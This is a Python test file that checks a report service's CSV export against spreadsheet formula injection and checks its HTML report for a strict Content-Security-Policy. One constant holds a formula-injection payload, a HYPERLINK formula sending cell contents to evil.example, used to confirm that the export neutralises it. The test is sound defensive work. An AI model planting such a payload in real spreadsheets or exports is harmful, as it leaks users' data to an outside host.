"""The report's CSV and HTML as an attacker would use them (issue 12, item 11).

- CSV: a filter echoed in every row (`neighbourhood==HYPERLINK(...)`) and a category name
  from an event reach a spreadsheet as text, never as formulas; numbers stay numbers.
- HTML: a strict Content-Security-Policy (no 'unsafe-inline', no script), its style sheet
  allowed by hash, as an HTTP header and as a meta tag (the CLI writes the same page).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re

from libs.common import csvsafe
from libs.common.contracts import exchange as ex
from libs.common.events import make_event
from services.impact.catalogue import CURRENT_VERSION
from services.impact.render import CSP, report_html
from services.impact.tests.test_impact_service import impact, publish, until_applied
from tests.impact_scenario import _where, at, hand_computed_scenario, loan_facts

__all__ = ["impact"]

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


def formula_loan() -> list:
    loan = loan_facts(
        "L-evil", category="-2+3", borrower="m-b1", borrower_nbhd="centre", requested_at=at(5, 1)
    )
    return [
        make_event(
            ex.LoanReturned(**loan, days_lent=1, condition="good"),
            aggregate_id="L-evil",
            territory=_where("centre"),
            occurred_at=at(5, 3),
        )
    ]


def spreadsheet_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with = + - @ TAB CR, not a number."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [
        cell
        for row in rows
        for cell in row
        if len(cell) > 1
        and cell.startswith(csvsafe.DANGEROUS_STARTS)
        and not csvsafe._PLAIN_NUMBER.fullmatch(cell)
    ]


async def test_csv_cells_never_reach_a_sheet_as_formulas(impact):
    events = hand_computed_scenario() + formula_loan()
    for envelope in events:
        await publish(impact, envelope)
    await until_applied(impact, len(events))

    echoed = await impact.client.get(
        "/report", params={"period": "2026", "format": "csv", "neighbourhood": EVIL}
    )
    assert echoed.status_code == 200
    assert echoed.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(echoed.text, newline="")))
    assert rows and all(r["neighbourhood"] == "'" + EVIL for r in rows)
    assert spreadsheet_formulas(echoed.text) == []

    city = (await impact.client.get("/report", params={"period": "2026", "format": "csv"})).text
    assert spreadsheet_formulas(city) == []
    groups = {r["group"] for r in csv.DictReader(io.StringIO(city, newline=""))}
    assert "'-2+3" in groups  # the category name from the event, neutralised
    assert f"{CURRENT_VERSION},2026,,exchange.time_credit_minutes,exchange,minutes,,,60," in city


async def test_html_report_carries_a_strict_policy_its_style_satisfies(impact):
    events = hand_computed_scenario()
    for envelope in events:
        await publish(impact, envelope)
    await until_applied(impact, len(events))
    response = await impact.client.get("/report", params={"period": "2026", "format": "html"})
    assert response.status_code == 200
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    assert "unsafe-inline" not in policy and "script-src" not in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    page = response.text
    assert "<script" not in page.lower() and " style=" not in page and "on" + "load=" not in page
    # Every inline style sheet is allowed by its hash in the policy.
    sheets = re.findall(r"<style>(.*?)</style>", page, flags=re.S)
    assert sheets
    for sheet in sheets:
        digest = base64.b64encode(hashlib.sha256(sheet.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    # The same policy as a meta tag: the file the CLI writes is protected on its own.
    assert (
        f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'.replace("'", "&#x27;")
        in page
    )


def test_the_cli_page_carries_the_policy_as_a_meta_tag():
    from services.impact.render import STYLE_HASH

    report = {
        "title": "t",
        "territory": {"name": "n", "population": 1},
        "period": {"label": "all", "from": "2026-01-01", "to": "2026-12-31"},
        "catalogue": {"version": "v1", "sha256": "x"},
        "min_cell": 5,
        "projection": {"facts": 0, "parked_events": 0},
        "indicators": {},
        "factors": [],
    }
    page = report_html(report)
    assert 'http-equiv="Content-Security-Policy"' in page and STYLE_HASH in page
